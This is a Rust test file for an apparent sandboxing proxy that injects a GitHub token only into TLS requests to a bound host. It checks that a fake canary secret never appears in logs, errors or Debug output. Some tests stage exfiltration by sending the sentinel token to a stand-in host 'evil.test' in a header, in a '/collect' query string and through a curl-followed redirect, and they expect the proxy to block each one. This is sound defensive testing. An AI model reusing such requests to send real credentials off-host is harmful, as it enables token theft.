//! Credential injection: sentinel to a bound host gets the secret; everything else never
//! does; the secret never shows up in logs, errors or `Debug`.

mod common;

use std::io::Write;
use std::sync::{Arc, Mutex};

use common::*;
use sbx_net::{
    Credential, JsonLinesLog, Policy, Preset, ProxyConfig, Reason, RecordType, Scope, Sentinel,
    StaticCredentials,
};
use secrecy::SecretString;

const SECRET: &str = "ghp_CANARYcanary0123456789CANARYcanary01";

fn allow(rules: &[&str]) -> Policy {
    let mut p = Policy::new(Preset::DenyAll);
    for r in rules {
        p.allow(&Scope::Global, r).unwrap();
    }
    p
}

fn with_github(sentinel: &Sentinel) -> impl FnOnce(ProxyConfig) -> ProxyConfig {
    let cred = Credential::new("github", sentinel.clone(), &["api.test"]).unwrap();
    let mut store = StaticCredentials::new();
    store.insert("github", SecretString::from(SECRET));
    move |c| c.with_credential(cred).with_provider(Arc::new(store))
}

fn auth_of(seen: &Seen) -> String {
    seen.headers
        .get("authorization")
        .map(|v| v.to_str().unwrap().to_string())
        .unwrap_or_default()
}

#[tokio::test]
async fn sentinel_to_a_bound_host_gets_the_secret_over_http1_and_http2() {
    let pki = TestPki::new();
    let up = tls_upstream(pki.leaf(&["api.test"], false)).await;
    let sentinel = Sentinel::github();
    let tp = start_proxy(
        &pki,
        allow(&["api.test"]),
        &["api.test"],
        with_github(&sentinel),
    )
    .await;
    let bearer = format!("Bearer {sentinel}");
    for h2 in [false, true] {
        let got = https_get(
            &tp,
            "api.test",
            up.port(),
            "/user",
            &[("authorization", &bearer)],
            h2,
        )
        .await
        .unwrap();
        assert_eq!(got.status, 200);
    }
    let seen = up.seen();
    assert_eq!(seen.len(), 2);
    for s in &seen {
        assert_eq!(auth_of(s), format!("Bearer {SECRET}"));
        // The upstream leg negotiates HTTP/2 by ALPN whatever the client leg speaks.
        assert_eq!(s.version, http::Version::HTTP_2);
    }
    let recs: Vec<_> = tp
        .records()
        .into_iter()
        .filter(|r| r.kind == RecordType::Http)
        .collect();
    assert_eq!(recs.len(), 2);
    for r in recs {
        assert_eq!(r.credentials, vec!["github".to_string()]);
    }
}

#[tokio::test]
async fn sentinel_to_another_host_is_blocked_as_exfiltration() {
    let pki = TestPki::new();
    let up = tls_upstream(pki.leaf(&["evil.test"], false)).await;
    let sentinel = Sentinel::github();
    let tp = start_proxy(
        &pki,
        allow(&["api.test", "evil.test"]),
        &["api.test", "evil.test"],
        with_github(&sentinel),
    )
    .await;
    let bearer = format!("Bearer {sentinel}");
    let got = https_get(
        &tp,
        "evil.test",
        up.port(),
        "/",
        &[("authorization", &bearer)],
        false,
    )
    .await
    .unwrap();
    assert_eq!(got.status, 403);
    assert_eq!(got.reason(), Some("credential-exfiltration"));
    let in_query = format!("/collect?t={sentinel}");
    let got = https_get(&tp, "evil.test", up.port(), &in_query, &[], true)
        .await
        .unwrap();
    assert_eq!(got.status, 403);
    assert!(up.seen().is_empty());
    let rec = tp.records().pop().unwrap();
    assert_eq!(rec.reason, Reason::CredentialExfiltration);
    assert_eq!(rec.credentials, vec!["github".to_string()]);
}

#[tokio::test]
async fn bypass_tunnels_are_never_injected() {
    let pki = TestPki::new();
    let up = tls_upstream(pki.leaf(&["api.test"], false)).await;
    let sentinel = Sentinel::github();
    let mut p = Policy::new(Preset::DenyAll);
    p.bypass(&Scope::Global, "api.test").unwrap();
    let tp = start_proxy(&pki, p, &["api.test"], with_github(&sentinel)).await;
    let (status, s) = connect(tp.addr(), &format!("api.test:{}", up.port())).await;
    assert_eq!(status, 200);
    let tls = tls_connect(s, "api.test", &pki.ca_der, &[b"http/1.1"])
        .await
        .unwrap();
    let bearer = format!("Bearer {sentinel}");
    let got = send_many(
        tls,
        false,
        vec![get(
            "/",
            &[("host", "api.test"), ("authorization", &bearer)],
        )],
    )
    .await
    .remove(0)
    .unwrap();
    assert_eq!(got.status, 200);
    assert_eq!(auth_of(&up.seen()[0]), bearer);
}

#[tokio::test]
async fn cleartext_requests_are_never_injected() {
    let pki = TestPki::new();
    let plain = plain_upstream().await;
    let sentinel = Sentinel::github();
    let tp = start_proxy(
        &pki,
        allow(&["api.test"]),
        &["api.test"],
        with_github(&sentinel),
    )
    .await;
    let bearer = format!("Bearer {sentinel}");
    let got = http_get(
        &tp,
        &format!("http://api.test:{}/", plain.port()),
        &[("authorization", &bearer)],
    )
    .await;
    assert_eq!(got.status, 200);
    assert_eq!(auth_of(&plain.seen()[0]), bearer);
    let rec = tp.records().pop().unwrap();
    assert!(rec.credentials.is_empty());
}

#[tokio::test]
async fn redirects_are_not_followed_with_the_secret() {
    let pki = TestPki::new();
    let up = tls_upstream(pki.leaf(&["api.test"], false)).await;
    let other = tls_upstream(pki.leaf(&["other.test"], false)).await;
    let sentinel = Sentinel::github();
    let tp = start_proxy(
        &pki,
        allow(&["api.test", "other.test"]),
        &["api.test", "other.test"],
        with_github(&sentinel),
    )
    .await;
    let bearer = format!("Bearer {sentinel}");
    let target = format!("https://other.test:{}/landing", other.port());
    let got = https_get(
        &tp,
        "api.test",
        up.port(),
        &format!("/redirect?to={target}"),
        &[("authorization", &bearer)],
        false,
    )
    .await
    .unwrap();
    assert_eq!(
        got.status, 302,
        "the proxy hands redirects back, it never follows them"
    );
    assert!(other.seen().is_empty());
    // A client that follows the redirect with the sentinel is blocked.
    let got = https_get(
        &tp,
        "other.test",
        other.port(),
        "/landing",
        &[("authorization", &bearer)],
        false,
    )
    .await
    .unwrap();
    assert_eq!(got.status, 403);
    assert!(other.seen().is_empty());
    // curl following the redirect with a custom header carrying the sentinel.
    let ca = write_temp("proxy-ca-redirect.pem", tp.proxy.ca_pem());
    let (_, out, _) = curl(vec![
        "-L".into(),
        "-H".into(),
        format!("x-api-key: {sentinel}"),
        "--proxy".into(),
        format!("http://{}", tp.addr()),
        "--cacert".into(),
        ca.display().to_string(),
        format!("https://api.test:{}/redirect?to={target}", up.port()),
    ])
    .await;
    assert!(out.contains("credential-exfiltration"), "{out}");
    assert!(other.seen().is_empty());
}

#[tokio::test]
async fn a_clients_own_token_is_left_alone() {
    let pki = TestPki::new();
    let up = tls_upstream(pki.leaf(&["api.test"], false)).await;
    let sentinel = Sentinel::github();
    let tp = start_proxy(
        &pki,
        allow(&["api.test"]),
        &["api.test"],
        with_github(&sentinel),
    )
    .await;
    let own = "Bearer gho_theclientsOWNtoken0123456789abcdefgh";
    let got = https_get(
        &tp,
        "api.test",
        up.port(),
        "/",
        &[("authorization", own)],
        false,
    )
    .await
    .unwrap();
    assert_eq!(got.status, 200);
    assert_eq!(auth_of(&up.seen()[0]), own);
    assert!(tp.records().pop().unwrap().credentials.is_empty());
}

#[derive(Clone, Default)]
struct Capture(Arc<Mutex<Vec<u8>>>);

impl Write for Capture {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[tokio::test]
async fn the_canary_secret_never_appears_in_logs_errors_or_debug() {
    let capture = Capture::default();
    let writer = capture.clone();
    let subscriber = tracing_subscriber::fmt()
        .with_max_level(tracing::Level::TRACE)
        .with_writer(move || writer.clone())
        .finish();
    let _default = tracing::subscriber::set_default(subscriber);

    let pki = TestPki::new();
    let up = tls_upstream(pki.leaf(&["api.test"], false)).await;
    let bad = tls_upstream(pki.leaf(&["api.test"], true)).await;
    let sentinel = Sentinel::github();
    let path = std::env::temp_dir().join(format!("sbx-net-canary-{}.jsonl", std::process::id()));
    let _ = std::fs::remove_file(&path);
    let log = Arc::new(JsonLinesLog::open(&path).unwrap());
    let cred = Credential::new("github", sentinel.clone(), &["api.test"]).unwrap();
    let mut store = StaticCredentials::new();
    store.insert("github", SecretString::from(SECRET));
    let cred_debug = format!("{cred:?} {store:?}");
    let store = Arc::new(store);
    let tp = start_proxy(
        &pki,
        allow(&["api.test", "evil.test"]),
        &["api.test", "evil.test"],
        |c| {
            c.with_credential(cred)
                .with_provider(store)
                .with_log(log.clone())
        },
    )
    .await;
    let bearer = format!("Bearer {sentinel}");
    let mut outputs = vec![cred_debug, format!("{:?}", tp.proxy)];
    // Injected request, exfiltration attempt, upstream certificate failure with injection.
    let ok = https_get(
        &tp,
        "api.test",
        up.port(),
        "/",
        &[("authorization", &bearer)],
        true,
    )
    .await
    .unwrap();
    outputs.push(format!("{ok:?}"));
    let ex = https_get(
        &tp,
        "evil.test",
        up.port(),
        "/",
        &[("authorization", &bearer)],
        false,
    )
    .await
    .unwrap();
    outputs.push(format!("{ex:?}"));
    let fail = https_get(
        &tp,
        "api.test",
        bad.port(),
        "/",
        &[("authorization", &bearer)],
        false,
    )
    .await;
    outputs.push(format!("{fail:?}"));
    assert_eq!(fail.unwrap().status, 502);
    assert_eq!(
        auth_of(&up.seen()[0]),
        format!("Bearer {SECRET}"),
        "the canary did reach upstream"
    );
    let err = sbx_net::Policy::from_json("{").unwrap_err();
    outputs.push(format!("{err} {err:?}"));
    outputs.push(format!("{:?}", tp.records()));
    outputs.push(std::fs::read_to_string(&path).unwrap());
    outputs.push(String::from_utf8_lossy(&capture.0.lock().unwrap()).into_owned());
    let traced = outputs.last().unwrap().len();
    assert!(traced > 1000, "tracing captured output ({traced} bytes)");
    for (i, out) in outputs.iter().enumerate() {
        assert!(!out.contains(SECRET), "secret leaked in output #{i}");
        assert!(
            !out.contains("CANARYcanary"),
            "part of the secret leaked in output #{i}"
        );
    }
    std::fs::remove_file(&path).unwrap();
}
